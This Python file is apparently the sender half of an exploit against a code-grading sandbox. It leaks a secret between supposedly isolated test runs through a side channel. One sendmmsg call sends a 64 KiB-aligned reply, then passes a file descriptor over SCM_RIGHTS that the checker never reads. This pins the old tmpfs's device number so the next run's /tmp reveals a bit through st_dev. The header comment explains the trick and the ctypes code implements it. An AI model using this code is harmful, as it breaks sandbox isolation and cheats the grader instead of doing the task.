# problem: secret
# Writer (toggle): leave a file in /tmp (so the server mounts a new tmpfs for the next sample), and in ONE sendmmsg
# answer the call with a reply of exactly 65536 bytes followed by one byte carrying an fd of that file (SCM_RIGHTS).
# The checker's 64 KiB read stops right before it and, the test having failed, it never reads again: the fd stays
# in flight in the checker's socket until the checker closes its end, which is after the server has detached
# this sample's tmpfs and mounted the next one. The old tmpfs still holds its anonymous device number then, so
# the next /tmp gets another one (st_dev, visible to fstatat): 49 <-> 50.
import os as _o, stat as _st, socket as _so, struct as _sx, array as _ar
def _chan():
    for f in range(64):
        try:
            if _st.S_ISSOCK(_o.fstat(f).st_mode):
                return f
        except OSError:
            pass
def _frame(seq, body_value_bytes):
    body = b"t" + _sx.pack(">I", 3) + b"s" + _sx.pack(">I", 6) + b"return" + b"i" + _sx.pack(">I", 1) + bytes([seq]) + body_value_bytes
    return _sx.pack(">I", len(body)) + body
def _aligned_reply(seq):
    """("return", seq, 'xxx...') framed to exactly 65536 bytes: the checker's 64 KiB read stops right after it."""
    head = _frame(seq, b"")
    L = 65536 - len(head) - 5
    return _frame(seq, b"s" + _sx.pack(">I", L) + b"x" * L)

def _sendmmsg_reply_then_fd(ch, reply, fd):
    """One system call (sendmmsg): the 64 KiB-aligned reply, then one byte carrying ``fd`` (SCM_RIGHTS). The checker,
    on the same CPU, cannot run between the two; its 64 KiB read stops right before the fd's byte."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    class msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)),
                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]
    class mmsghdr(ctypes.Structure):
        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
    b1 = ctypes.create_string_buffer(reply, len(reply))
    b2 = ctypes.create_string_buffer(b"!", 1)
    iov1, iov2 = iovec(ctypes.cast(b1, ctypes.c_void_p), len(reply)), iovec(ctypes.cast(b2, ctypes.c_void_p), 1)
    cmsg = ctypes.create_string_buffer(_sx.pack("=QiiI", 20, 1, 1, fd) + b"\0" * 4)  # len, SOL_SOCKET, SCM_RIGHTS
    msgs = (mmsghdr * 2)()
    msgs[0].hdr.iov, msgs[0].hdr.iovlen = ctypes.pointer(iov1), 1
    msgs[1].hdr.iov, msgs[1].hdr.iovlen = ctypes.pointer(iov2), 1
    msgs[1].hdr.control, msgs[1].hdr.controllen = ctypes.cast(cmsg, ctypes.c_void_p), 24
    return libc.sendmmsg(ch, msgs, 2, 0), ctypes.get_errno()
import time
def secret(x):
    fd = _o.open("/tmp/keep", _o.O_RDWR | _o.O_CREAT, 0o600)
    _sendmmsg_reply_then_fd(_chan(), _aligned_reply(1), fd)
    time.sleep(30)
